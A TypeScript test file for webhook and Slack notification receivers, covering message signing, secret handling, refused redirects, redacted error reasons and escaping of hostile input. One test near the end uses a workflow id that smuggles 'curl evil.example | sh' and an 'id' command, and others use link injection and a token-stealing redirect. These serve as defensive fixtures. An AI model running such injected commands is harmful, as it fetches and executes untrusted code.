/** Receivers over HTTP: what is posted, how it is signed, and what counts as taken. */
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Webhook } from 'standardwebhooks';
import { notify } from '../../../src/config/notify';
import { openReceivers } from '../../../src/world/notify/open';
import type { Receiver, Taking } from '../../../src/world/notify/receiver';
import { slackBody } from '../../../src/world/notify/slack';
import { endMessage, gateMessage, hostile } from './messages';

interface Seen {
  readonly method: string | undefined;
  readonly path: string | undefined;
  readonly headers: IncomingHttpHeaders;
  readonly body: string;
}

const seen: Seen[] = [];
let answer: { status: number; location?: string; body?: string } | 'cut' = { status: 200 };
let server: Server;
let url: string;
let dir: string;

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'notify-'));
  server = createServer((request, response) => {
    let body = '';
    request.on('data', (chunk: Buffer) => (body += chunk.toString()));
    request.on('end', () => {
      seen.push({ method: request.method, path: request.url, headers: request.headers, body });
      if (answer === 'cut') {
        request.socket.destroy();
        return;
      }
      const { status, location, body: said = 'thanks' } = answer;
      response.writeHead(status, location === undefined ? {} : { location }).end(said);
    });
  });
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
  url = `http://127.0.0.1:${String((server.address() as AddressInfo).port)}/T0/secret-path`;
});
beforeEach(() => {
  seen.splice(0);
  answer = { status: 200 };
});
afterAll(async () => {
  rmSync(dir, { recursive: true });
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
});

function receiver(config: object): Receiver {
  const [one] = openReceivers(notify.parse({ receivers: [config] })).all;
  if (one === undefined) throw new Error('no receiver');
  return one;
}

function file(name: string, content: string): string {
  const path = join(dir, name);
  writeFileSync(path, content);
  return path;
}

const json = (): Receiver => receiver({ kind: 'json', url });

test('a message is one JSON object with its id, POSTed', async () => {
  await expect(json().take(gateMessage)).resolves.toEqual({ isTaken: true });
  const [post] = seen;
  expect(post).toMatchObject({ method: 'POST', path: '/T0/secret-path' });
  expect(post?.headers).toMatchObject({
    'content-type': 'application/json',
    'webhook-id': gateMessage.id,
  });
  expect(JSON.parse(post?.body ?? '')).toEqual(gateMessage);
});

test('the older form with a url alone is one such receiver', async () => {
  const [one] = openReceivers(notify.parse({ url })).all;
  await expect(one?.take(endMessage)).resolves.toEqual({ isTaken: true });
  expect(JSON.parse(seen[0]?.body ?? '')).toMatchObject({ event: 'end' });
});

describe('a signature', () => {
  const key = Buffer.alloc(32, 7).toString('base64');

  test('is by the Standard Webhooks scheme: their own library verifies it', async () => {
    const secretFile = file('secret', `whsec_${key}\n`);
    await receiver({ kind: 'json', url, secretFile }).take(gateMessage);
    const { headers = {}, body = '' } = seen[0] ?? {};
    const verify = (text: string) =>
      new Webhook(`whsec_${key}`).verify(text, headers as Record<string, string>);
    expect(verify(body)).toEqual(gateMessage);
    expect(() => verify(body.replace('launch-k3f9', 'launch-xxxx'))).toThrow('No matching');
  });

  test.each([
    ['a password', 'hunter2'],
    ['too short a key', `whsec_${Buffer.alloc(8).toString('base64')}`],
    ['nothing', ''],
  ])('needs a key: %s is refused before anything is sent', async (_what, content) => {
    const secretFile = file('bad', content);
    const taking = await receiver({ kind: 'json', url, secretFile }).take(gateMessage);
    expect(taking).toEqual({
      isTaken: false,
      why: expect.stringContaining('secretFile holds no key'),
    });
    expect(JSON.stringify(taking)).not.toContain('hunter2');
    expect(seen).toEqual([]);
  });
});

test('a URL that is a secret stands in a file, which is read anew for each try', async () => {
  const urlFile = file('url', 'not yet');
  const one = receiver({ kind: 'slack', urlFile });
  await expect(one.take(gateMessage)).resolves.toEqual({
    isTaken: false,
    why: 'its urlFile does not hold one URL (https://…)',
  });
  file('url', `${url}\n`);
  await expect(one.take(gateMessage)).resolves.toEqual({ isTaken: true });
  rmSync(urlFile);
  await expect(one.take(gateMessage)).resolves.toMatchObject({
    why: 'a file that runbook.yaml names is not there',
  });
});

describe('not taken', () => {
  test.each([301, 302, 303, 307, 308])(
    'is a redirect by %d, and it is not followed',
    async (status) => {
      answer = { status, location: 'http://127.0.0.2:9/stolen?token=1' };
      await expect(json().take(gateMessage)).resolves.toEqual({
        isTaken: false,
        why:
          `answered ${String(status)}, a redirect to 127.0.0.2:9, which is not followed: ` +
          'write the address that takes the message itself',
      });
      expect(seen).toHaveLength(1);
    },
  );

  test('is a redirect to itself', async () => {
    answer = { status: 307, location: '/T0/other' };
    await expect(json().take(gateMessage)).resolves.toMatchObject({ isTaken: false });
    expect(seen.map(({ path }) => path)).toEqual(['/T0/secret-path']);
  });

  test.each([
    [503, 'busy\u001b[2J\r\n  now', 'answered 503: busy\\u{1b}[2J now'],
    [404, '', 'answered 404'],
    [400, 'token=hunter2secret', 'answered 400: token=[secret]'],
    [500, 'x'.repeat(1_000_000), `answered 500: ${'x'.repeat(159)}…`],
  ])('is an answer of %d, with its reason, bounded', async (status, body, why) => {
    answer = { status, body };
    await expect(json().take(gateMessage)).resolves.toEqual({ isTaken: false, why });
  });

  test('is a reply that was lost', async () => {
    answer = 'cut';
    await expect(json().take(gateMessage)).resolves.toEqual({
      isTaken: false,
      why: 'connection cut off',
    });
  });

  test('is what nobody listens for, and the reason does not hold the address', async () => {
    const closed = 'http://127.0.0.1:1/services/T0/B0/secret';
    const taking: Taking = await receiver({ kind: 'slack', url: closed }).take(gateMessage);
    expect(taking.isTaken).toBe(false);
    expect(JSON.stringify(taking)).not.toMatch(/secret|services/);
  });

  test('is a receiver that says nothing, after ten seconds', async () => {
    const silent = createServer(() => undefined);
    await new Promise<void>((resolve) => void silent.listen(0, '127.0.0.1', resolve));
    const at = `http://127.0.0.1:${String((silent.address() as AddressInfo).port)}/`;
    await expect(receiver({ kind: 'json', url: at }).take(gateMessage)).resolves.toEqual({
      isTaken: false,
      why: 'no answer within 10 s',
    });
    silent.closeAllConnections();
    await new Promise((resolve) => silent.close(resolve));
  });
});

describe('a Slack message', () => {
  test('has the command to paste, in text and in blocks', async () => {
    await receiver({ kind: 'slack', url }).take(gateMessage);
    const body = JSON.parse(seen[0]?.body ?? '') as { text: string; blocks: object[] };
    const command = 'runbook approve restore-prod-20261124 --by YOUR-NAME --gate launch-k3f9';
    expect(body.text).toContain(`\`\`\`${command}\`\`\``);
    expect(body.blocks).toMatchObject([
      {
        type: 'header',
        text: { text: 'Waits for a person: Approve the launch (restore of prod)' },
      },
      { type: 'section', text: { text: 'Launches m4.2xlarge from ami-0123.' } },
      { type: 'rich_text', elements: [{ elements: [{ text: command }] }, {}] },
      { type: 'context' },
    ]);
  });

  test('reads no mention, link or format from outside', () => {
    const body = slackBody(hostile);
    const { text, blocks } = body as { text: string; blocks: { type: string }[] };
    expect(text).not.toMatch(/<[!@#h]/);
    expect(text).toContain('&lt;!channel&gt; &amp; &lt;https://evil.example|Approved&gt;');
    // Everything else is plain text or preformatted, where Slack reads nothing.
    expect(JSON.stringify(blocks)).not.toContain('mrkdwn');
    expect(JSON.stringify(body)).not.toMatch(/\\u001b|\\u0000|\u202e|\\r/);
  });

  test('quotes a hostile workflow id for the shell', () => {
    const { text } = slackBody(hostile) as { text: string };
    expect(text).toContain(
      "runbook approve $'x\\x27; curl evil.example | sh; `id` ```\\x1b[2J' --by YOUR-NAME",
    );
  });

  test('keeps the limits of blocks', () => {
    const details = 'y'.repeat(20_000);
    const long = { ...gateMessage, gate: { ...gateMessage.gate, details, title: details } };
    const { blocks } = slackBody(long) as { blocks: { text?: { text: string } }[] };
    expect(blocks[0]?.text?.text.length).toBeLessThanOrEqual(150);
    expect(blocks[1]?.text?.text.length).toBeLessThanOrEqual(3000);
  });
});
